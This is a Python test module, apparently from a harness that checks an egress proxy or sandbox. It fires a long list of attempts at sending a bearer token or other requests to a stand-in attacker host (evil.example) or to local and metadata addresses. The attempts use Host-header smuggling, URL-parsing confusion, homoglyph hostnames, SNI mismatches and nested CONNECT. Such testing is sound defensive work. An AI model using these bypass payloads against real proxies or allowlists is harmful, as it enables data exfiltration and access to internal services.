"""Tries to have the value, or anything at all, delivered to somebody else.

Each request names its trick in its path, so that a test can tell which of them arrived where.
"""
import itertools
import tricks
from tricks import *

LOCAL = int(os.environ.get("LOCAL_PORT", "0"))


def path(name):
    return f"/t/{name}"


def combination(a, b, c, way):
    name = "_".join([way] + ["api" if host == API else "evil" for host in (a, b, c)])

    def attempt():
        sock = (dial if way == "direct" else through_proxy)(a, 443)
        with secure(sock, b) as tls:
            return talk(tls, request(path(name), host=c))

    TRICKS[name] = attempt


for way in ("direct", "tunnel"):
    for a, b, c in itertools.product((API, EVIL), repeat=3):
        if (a, b, c) != (API, API, API):
            combination(a, b, c, way)


@trick
def absolute_form_evil():
    return ask(f"https://{EVIL}{path('absolute_form_evil')}")


@trick
def absolute_form_evil_both():
    return ask(f"https://{EVIL}{path('absolute_form_evil_both')}", host=EVIL)


@trick
def absolute_form_other_scheme():
    return ask(f"http://{API}{path('absolute_form_other_scheme')}")


@trick
def absolute_form_other_port():
    return ask(f"https://{API}:8443{path('absolute_form_other_port')}")


@trick
def two_hosts():
    return ask(path("two_hosts"), headers=[f"Host: {EVIL}"])


@trick
def two_hosts_reversed():
    return ask(path("two_hosts_reversed"), host=EVIL, headers=[f"Host: {API}"])


@trick
def host_list():
    return ask(path("host_list"), host=f"{API}, {EVIL}")


@trick
def no_host():
    with api() as sock:
        return talk(sock, f"GET {path('no_host')} HTTP/1.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode())


@trick
def attackers_address():
    """An address of ours, with every name that of the allowed host: it must be dialled by name."""
    with secure(dial("203.0.113.9", 443), API) as sock:
        return talk(sock, request(path("attackers_address")))


@trick
def attackers_address_plain():
    with dial("203.0.113.9", 80) as sock:
        return talk(sock, request(path("attackers_address_plain"), host=PLAIN))


@trick
def attackers_address_no_name():
    with secure(dial("203.0.113.9", 443), None) as sock:
        return talk(sock, request(path("attackers_address_no_name")))


@trick
def plain_to_secret_host():
    with dial(API, 80) as sock:
        return talk(sock, request(path("plain_to_secret_host")))


@trick
def plain_evil():
    with dial(EVIL, 80) as sock:
        return talk(sock, request(path("plain_evil"), host=EVIL))


def by_proxy(target, host, name):
    with (dial(EVIL, 80) if DIRECT else dial(*PROXY)) as sock:
        return talk(sock, request(target, host=host))


ABSOLUTE = {
    "proxy_evil": (f"http://{EVIL}/t/proxy_evil", EVIL),
    "proxy_evil_spoofed_host": (f"http://{EVIL}/t/proxy_evil_spoofed_host", PLAIN),
    "proxy_spoofed_url": (f"http://{PLAIN}/t/proxy_spoofed_url", EVIL),
    "proxy_https_url": (f"https://{API}/t/proxy_https_url", API),
    "proxy_origin_form": ("/t/proxy_origin_form", PLAIN),
    "split_userinfo": (f"http://{PLAIN}@{EVIL}/t/split_userinfo", EVIL),
    "split_userinfo_password": (f"http://{PLAIN}:80@{EVIL}/t/split_userinfo_password", EVIL),
    "split_backslash": (f"http://{EVIL}\\@{PLAIN}/t/split_backslash", PLAIN),
    "split_hash": (f"http://{EVIL}#@{PLAIN}/t/split_hash", PLAIN),
    "split_question": (f"http://{EVIL}?@{PLAIN}/t/split_question", PLAIN),
    "split_tab": (f"http://{PLAIN}\t{EVIL}/t/split_tab", PLAIN),
    "split_slashes": (f"http:///{EVIL}/t/split_slashes", PLAIN),
    "split_no_slashes": (f"http:{EVIL}/t/split_no_slashes", EVIL),
    "split_scheme": (f"HTTP+X://{EVIL}/t/split_scheme", EVIL),
    "split_encoded": (f"http://%65vil.example/t/split_encoded", EVIL),
    "split_nul": (f"http://{EVIL}\0{PLAIN}/t/split_nul", EVIL),
}
for name, (target, host) in ABSOLUTE.items():
    TRICKS[name] = lambda target=target, host=host, name=name: by_proxy(target, host, name)


@trick
def redirect():
    """Follows an answer of the allowed host to another one, credential and all."""
    answer = ask("/redirect")
    if b"Location: https://evil.example" not in answer:
        return answer
    with secure(dial(EVIL, 443), EVIL) as sock:
        return talk(sock, request(path("redirect"), host=EVIL))


@trick
def keep_alive():
    with api() as sock:
        sock.sendall(request("/allowed", close=False))
        first = one_answer(sock)
        return first + talk(sock, request(path("keep_alive"), host=EVIL))


@trick
def keep_alive_proxy():
    with (dial(EVIL, 80) if DIRECT else dial(*PROXY)) as sock:
        if not DIRECT:
            sock.sendall(request(f"http://{PLAIN}/allowed", host=PLAIN, close=False))
            one_answer(sock)
        return talk(sock, request(f"http://{EVIL}{path('keep_alive_proxy')}", host=EVIL))


def certificate(name):
    def attempt():
        with api(f"{name}.acme.example") as sock:
            return talk(sock, request(path(f"certificate_{name}"), host=f"{name}.acme.example"))

    TRICKS[f"certificate_{name}"] = attempt


for name in ("wrong", "expired", "unknown", "future"):
    certificate(name)


@trick
def certificate_socket():
    with api("wrong.acme.example") as sock:
        headers = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                   "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="]
        host = "wrong.acme.example"
        return talk(sock, request(path("certificate_socket"), host=host, headers=headers, close=False))


NAMES = {
    "name_nul": f"{EVIL}\0.acme.example",
    "name_nul_reversed": f"{API}\0.{EVIL}",
    "name_encoded": "evil%2eexample",
    "name_encoded_nul": f"{API}%00.{EVIL}",
    "name_brackets": f"[{EVIL}]",
    "name_zone": "[fe80::1%25eth0]",
    "name_long": "a" * 260 + ".example",
    "name_label": "a" * 64 + ".example",
    "name_empty_label": "evil..example",
    "name_prefix": f"x{API}",
    "name_suffix": f"{API}.{EVIL}",
    "name_apex": "wild.example",
    "name_beside": "evilwild.example",
    "name_below": "wild.example.evil.example",
    "name_cyrillic": "\u0430pi.acme.example",
    "name_wide": "\uff41pi.acme.example",
    "name_soft_hyphen": "a\u00adpi.acme.example",
    "name_a_label": "xn--pi-7kc.acme.example",
}
for name, host in NAMES.items():
    def named(name=name, host=host):
        raw = host.encode("utf8")
        with (dial(EVIL, 443) if DIRECT else dial(*PROXY)) as sock:
            if not DIRECT:
                sock.sendall(b"CONNECT " + raw + b":443 HTTP/1.1\r\nHost: " + raw + b":443\r\n\r\n")
                head = sock.recv(4096)
                if b" 200 " not in head:
                    return head
            with secure(sock, EVIL if "wild" not in host else host) as tls:
                return talk(tls, request(path(name), host=EVIL if "wild" not in host else host))

    TRICKS[name] = named


def same_name(host):
    with secure(through_proxy(host, 443) if not DIRECT else dial(API, 443), API) as sock:
        return talk(sock, request(path("same_name"), host=host))


@trick
def same_name_upper():
    return same_name("API.Acme.EXAMPLE")


@trick
def same_name_dot():
    return same_name("api.acme.example.")


ADDRESSES = """127.0.0.1 127.1 0x7f.1 0x7f000001 2130706433 0177.0.0.1 0.0.0.0 0 [::1] [::]
[::ffff:127.0.0.1] [::127.0.0.1] [64:ff9b::7f00:1] [2002:7f00:1::] [::ffff:7f00:1] 127.0.0.1.
localhost localhost. LOCALHOST ip6-localhost ip6-loopback""".split() + [os.environ.get("MACHINE", "localhost")]


def local(host):
    """Absolute-form and CONNECT to a service of the machine itself."""
    if DIRECT:
        with socket.create_connection(("127.0.0.1", LOCAL), WAIT) as sock:
            return talk(sock, request("/admin", host="localhost"))
    with dial(*PROXY) as sock:
        seen = talk(sock, request(f"http://{host}:{LOCAL}/admin", host=f"{host}:{LOCAL}"))
    try:
        with through_proxy(host, LOCAL) as sock:
            seen += talk(sock, request("/admin", host=f"{host}:{LOCAL}"))
    except OSError as error:
        seen += str(error).encode()
    return seen


for index, host in enumerate(ADDRESSES):
    TRICKS[f"local_{index}"] = lambda host=host: host.encode() + b"\n" + local(host)

SELF = ["198.18.0.2:3128", "198.18.0.1:53", "198.18.0.3:65000", "127.0.0.1:3128", "169.254.169.254:80"]
for index, at in enumerate(SELF):
    def itself(at=at):
        host, port = at.rsplit(":", 1)
        if DIRECT:
            return b"(nothing to compare)"
        with through_proxy(host, int(port)) as sock:
            return talk(sock, request(f"http://{EVIL}/t/self", host=EVIL))

    TRICKS[f"self_{index}"] = itself


@trick
def nested():
    """CONNECT in a tunnel of CONNECT, and at a door that is no proxy."""
    connect = f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n".encode()
    if DIRECT:
        return b"(nothing to compare)"
    seen = b""
    for host, port in ((PLAIN, 80), (API, 443)):
        with through_proxy(host, port) as sock:
            with (secure(sock, host) if port == 443 else sock) as inner:
                seen += talk(inner, connect)
    with dial(PLAIN, 80) as sock:
        return seen + talk(sock, connect)


main()
